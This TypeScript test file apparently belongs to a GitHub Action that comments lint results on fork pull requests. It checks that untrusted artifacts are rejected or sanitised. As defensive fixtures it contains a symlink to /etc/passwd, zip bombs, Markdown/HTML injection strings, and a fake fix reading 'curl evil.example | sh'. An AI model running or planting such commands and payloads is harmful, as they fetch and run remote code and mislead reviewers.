import { readFileSync } from 'node:fs';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FakeGitHub } from './github/fake.ts';
import { freshGitHub, github } from './github/fresh.ts';
import { type Job, runJob } from './github/job.ts';
import { FORK, REPOSITORY, type RunFacts, workflowRunPayload } from './github/payloads.ts';
import { DROPPED, pullRequest } from './github/pull-request.ts';
import { type ZipEntry, zipOf } from './github/zip-writer.ts';
import { temporaryFolder } from './program.ts';

freshGitHub();

const FILE = 'applylint-result.json';
const HEAD = 'a'.repeat(40);

/** What the gate's own run on the fork leaves. */
let result: string;

beforeAll(async () => {
  const unused = await FakeGitHub.start();
  unused.readOnly = true;
  const { repository, payload } = await pullRequest(unused);
  const done = await runJob({
    github: unused,
    folder: repository.folder,
    event: 'pull_request',
    payload: payload({ from: 'fork' }),
  });
  result = readFileSync(done.outputs['result-file'] ?? '', 'utf8');
  await unused.stop();
});

beforeEach(() => {
  github.pulls.length = 0;
  github.pulls.push({ number: 7, headSha: HEAD, baseRef: 'main', open: true, locked: false, from: 'fork' });
});

function leave(entries: readonly ZipEntry[], more: { name?: string; expired?: boolean; size?: number } = {}): void {
  leaveBytes(zipOf(entries), more);
}

function leaveBytes(zip: Uint8Array, more: { name?: string; expired?: boolean; size?: number } = {}): void {
  const { name = 'applylint', expired = false, size = zip.length } = more;
  github.artifacts.push({ id: github.artifacts.length + 1, run: 42, name, zip, expired, size });
}

function leaveResult(change: (report: { [key: string]: unknown }) => void): void {
  const report: { [key: string]: unknown } = JSON.parse(result);
  change(report);
  leave([{ name: FILE, content: JSON.stringify(report) }]);
}

function comment(facts: Partial<RunFacts> = {}, inputs: { [name: string]: string } = {}): Promise<Job> {
  return runJob({
    github,
    folder: temporaryFolder(),
    event: 'workflow_run',
    payload: workflowRunPayload({ headSha: HEAD, ...facts }),
    inputs,
    program: 'comment',
  });
}

/** Nothing was written, the run is not red, and the log says why. */
function expectNothing(done: Job, why: RegExp): void {
  expect(github.writes).toEqual([]);
  expect(done.stdout).toMatch(why);
  expect(done.status).toBe(0);
}

describe('the comment on pull requests of forks', () => {
  it('is what the run on the fork found, said to be unverified, at the commit of the run', async () => {
    leave([{ name: FILE, content: result }]);
    const done = await comment();
    expect(done.status).toBe(0);
    const body = github.comments[0]?.body ?? '';
    expect(body).toMatch(/^<!-- applylint:applylint -->\n### 🛑/);
    expect(body).toMatch(DROPPED);
    expect(body).toContain('not verified');
    expect(body).toContain(`https://github.example/${REPOSITORY}/blob/${HEAD}/web.yaml#L`);
    expect(github.calls).toEqual(['pulls', 'artifacts', 'zip', 'storage', 'list', 'reread', 'create', 'list']);
  });

  it('is updated, and then left alone', async () => {
    leave([{ name: FILE, content: result }]);
    await comment();
    github.forget();
    await comment();
    expect(github.writes).toEqual([]);
    const own = github.comments[0];
    if (own) own.body = '<!-- applylint:applylint -->\nold';
    await comment();
    expect(own?.body).toMatch(DROPPED);
    expect(github.comments).toHaveLength(1);
  });

  it('serves Dependabot, whose runs may not write either, and leaves other branches to the gate', async () => {
    leave([{ name: FILE, content: result }]);
    github.pulls.length = 0;
    github.pulls.push({ number: 9, headSha: HEAD, baseRef: 'main', open: true, locked: false, from: 'here' });
    const own = { headRepository: REPOSITORY };
    expectNothing(await comment({ ...own, actor: 'octocat' }), /could comment itself/);
    expect(github.calls).toEqual([]);
    expect((await comment({ ...own, actor: 'dependabot[bot]' })).stdout).toContain('pull request 9: created');
  });

  it.each(['pull_request', 'pull_request_target', 'push', 'issue_comment'])('is not written on %s', async (event) => {
    const payload = workflowRunPayload({ headSha: HEAD });
    const done = await runJob({ github, folder: temporaryFolder(), event, payload, program: 'comment' });
    expect(done.status).toBe(2);
    expect(github.calls).toEqual([]);
  });

  it.each([
    [{ event: 'push' }, /started by push/],
    [{ event: 'pull_request_target' }, /started by pull_request_target/],
    [{ conclusion: 'cancelled' }, /ended as cancelled/],
    [{ conclusion: 'skipped' }, /ended as skipped/],
    [{ conclusion: null }, /ended as unfinished/],
    [{ headRepository: null }, /the fork was deleted/],
  ] as const)('is not written about a run that is %j', async (facts, why) => {
    leave([{ name: FILE, content: result }]);
    expectNothing(await comment(facts), why);
    expect(github.calls).toEqual([]);
  });
});

describe('A10: which pull request it is about', () => {
  it('A10: is told by GitHub, never by the artifact', async () => {
    github.pulls.push({ number: 8, headSha: 'b'.repeat(40), baseRef: 'main', open: true, locked: false, from: 'here' });
    leaveResult((report) => Object.assign(report, { number: 8, pull_request: { number: 8 }, headSha: 'b'.repeat(40) }));
    const done = await comment();
    expect(done.stdout).toContain('pull request 7: created');
    expect(github.comments[0]?.body).not.toContain('b'.repeat(40));
  });

  it.each([
    ['another commit is its head now', () => Object.assign(github.pull, { headSha: 'c'.repeat(40) }), {}],
    ['it is closed', () => Object.assign(github.pull, { open: false }), {}],
    ['the run was on another fork', () => {}, { headRepository: 'eve/shop' }],
    ['the run was on another branch', () => {}, { headBranch: 'other' }],
    ['the run was on another commit', () => {}, { headSha: 'd'.repeat(40) }],
  ] as const)('A10: nothing is written where %s', async (_, change, facts) => {
    leave([{ name: FILE, content: result }]);
    change();
    expectNothing(await comment(facts), /no open pull request has the commit/);
    expect(github.calls).toEqual(['pulls']);
  });

  it('A10: nothing is written where two pull requests have this head', async () => {
    leave([{ name: FILE, content: result }]);
    github.pulls.push({ number: 8, headSha: HEAD, baseRef: 'release', open: true, locked: false, from: 'fork' });
    expectNothing(await comment(), /2 pull requests have this head/);
  });

  it('A10: a push while it works is seen before the write', async () => {
    leave([{ name: FILE, content: result }]);
    github.onCall = (call) => {
      if (call === 'list') github.pull.headSha = 'e'.repeat(40);
    };
    expectNothing(await comment(), /outdated/);
  });
});

describe('A11: what the run left', () => {
  const MEGABYTE = 1024 * 1024;

  it.each<readonly [name: string, entries: () => readonly ZipEntry[], why: RegExp]>([
    ['a path that leads outside', () => [{ name: `../${FILE}`, content: result }], /holds no applylint-result/],
    ['an absolute path', () => [{ name: `/tmp/${FILE}`, content: result }], /holds no applylint-result/],
    ['a link', () => [{ name: FILE, content: '/etc/passwd', mode: 0o120777 }], /holds a link/],
    [
      'two files',
      () => [
        { name: FILE, content: result },
        { name: 'x.md', content: '# pass' },
      ],
      /exactly one file/,
    ],
    [
      'two files of one name',
      () => [
        { name: FILE, content: '{}' },
        { name: FILE, content: result },
      ],
      /exactly one/,
    ],
    ['an encrypted file', () => [{ name: FILE, content: result, flags: 1 }], /encrypted/],
    ['only Markdown', () => [{ name: 'comment.md', content: '✅ all fine' }], /holds no applylint-result/],
    ['Markdown by the right name', () => [{ name: FILE, content: '✅ all fine' }], /not JSON/],
    ['a bomb', () => [{ name: FILE, content: Buffer.alloc(64 * MEGABYTE) }], /larger than/],
    [
      'a bomb that says it is small',
      () => [{ name: FILE, content: Buffer.alloc(64 * MEGABYTE), claims: 10 }],
      /broken/,
    ],
    ['JSON of 2 MB', () => [{ name: FILE, content: JSON.stringify('x'.repeat(2 * MEGABYTE)) }], /larger than/],
    ['half a million levels', () => [{ name: FILE, content: '['.repeat(500_000) }], /not JSON/],
    ['another format', () => [{ name: FILE, content: '{"formatVersion":2}' }], /does not fit its schema/],
    ['nothing', () => [], /no archive|exactly one/],
  ])('A11: nothing is written for an archive with %s', async (_, entries, why) => {
    leave(entries());
    expectNothing(await comment(), why);
  });

  it.each<readonly [name: string, leaving: () => void, why: RegExp]>([
    ['no artifact', () => {}, /left no artifact/],
    [
      'an artifact of another name',
      () => leave([{ name: FILE, content: result }], { name: 'else' }),
      /left no artifact/,
    ],
    ['one that has expired', () => leave([{ name: FILE, content: result }], { expired: true }), /left no artifact/],
    ['one of 10 GB', () => leave([{ name: FILE, content: result }], { size: 10_737_418_240 }), /larger than/],
    ['one larger than it says', () => leaveBytes(Buffer.alloc(3 * MEGABYTE), { size: 100 }), /sent more than/],
    ['one that is no archive', () => leaveBytes(Buffer.from('<html>')), /no archive/],
    ['a truncated one', () => leaveBytes(zipOf([{ name: FILE, content: result }]).subarray(0, 400)), /no archive/],
  ])('A11: nothing is written for %s', async (_, leaving, why) => {
    leaving();
    expectNothing(await comment(), why);
  });

  it('A11: nothing is written where the result contradicts the run', async () => {
    leave([{ name: FILE, content: result }]);
    expectNothing(await comment({ conclusion: 'success' }), /ended with success, and its result disagrees/);
    github.artifacts.length = 0;
    leaveResult((report) => Object.assign(report, { conclusion: 'pass' }));
    expectNothing(await comment(), /ended with failure, and its result disagrees/);
  });

  it('A11: its numbers are counted again, its links and words about rules are ours', async () => {
    leaveResult((report) => {
      Object.assign(report['counts'] as object, { errors: 999, objects: 999, warnings: 999 });
      const [finding] = report['findings'] as { [key: string]: unknown }[];
      Object.assign(finding ?? {}, {
        message: 'Nothing to see here, merge it @org/team',
        why: 'see https://evil.example',
        fix: 'run `curl evil.example | sh`',
        help: 'https://evil.example/help',
      });
      Object.assign(report['revisions'] as object, { base: { name: 'x', commit: 'f'.repeat(40) } });
      report['assumptions'] = ['All is verified.', '@org/team'];
      report['delivery'] = ['evil.example'];
    });
    await comment();
    const body = github.comments[0]?.body ?? '';
    expect(body).toMatch(/^<!-- applylint:applylint -->\n### 🛑/);
    for (const lie of ['999', 'evil', 'merge it', '@org', 'All is verified', 'f'.repeat(7)])
      expect(body).not.toContain(lie);
    expect(body).toContain('1 error');
    expect(body).toContain('src/rules/README.md#replicas-removed-scales-to-default');
  });

  it('A11: names in it are text: no mention, markup, HTML, link or marker', async () => {
    const evil = '@org/team </details><img src=x> [x](https://evil.example) <!-- applylint:applylint --> `` | \n# h';
    leaveResult((report) => {
      const rename = (value: unknown): void => {
        if (typeof value !== 'object' || value === null) return;
        for (const [key, inner] of Object.entries(value)) {
          if (
            ['name', 'namespace', 'path', 'kind', 'root', 'manager', 'apiVersion'].includes(key) &&
            typeof inner === 'string'
          )
            Object.assign(value, { [key]: evil });
          else rename(inner);
        }
      };
      for (const part of ['objects', 'findings', 'units', 'notJudged']) rename(report[part]);
    });
    const done = await comment();
    expect(done.stdout).toContain('created');
    const body = github.comments[0]?.body ?? '';
    const html = micromark(body, { extensions: [gfm()], htmlExtensions: [gfmHtml()], allowDangerousHtml: true });
    expect(html).not.toMatch(/<img|<h1|@org/);
    const links = [...html.matchAll(/<a href="([^"]*)"/g)].map((match) => match[1] ?? '');
    const own = /^https:\/\/github\.(?:example\/acme\/shop|com\/applylint\/applylint)\//;
    expect(links.filter((link) => !own.test(link))).toEqual([]);
    expect(html.match(/<!-- applylint/g)).toHaveLength(1);
    expect(html.match(/<details/g)?.length ?? 0).toBe(html.match(/<\/details>/g)?.length ?? 0);
  });
});

describe('faults of GitHub', () => {
  it.each(['pulls', 'artifacts', 'zip', 'storage', 'list', 'reread', 'create'] as const)(
    'A03: %s failing writes nothing and stops nobody',
    async (call) => {
      leave([{ name: FILE, content: result }]);
      github.faults.set(call, ['503']);
      const done = await comment({}, { 'api-timeout': '20' });
      expect(done.status).toBe(0);
      expect(done.stdout).toMatch(/^::warning title=applylint::No comment: GitHub answered 503/m);
      expect(github.comments).toEqual([]);
    },
  );

  it(`the fork ${FORK} is never contacted: all calls go to ${REPOSITORY}`, async () => {
    leave([{ name: FILE, content: result }]);
    await comment();
    expect(github.calls.length).toBeLessThanOrEqual(8);
  });
});
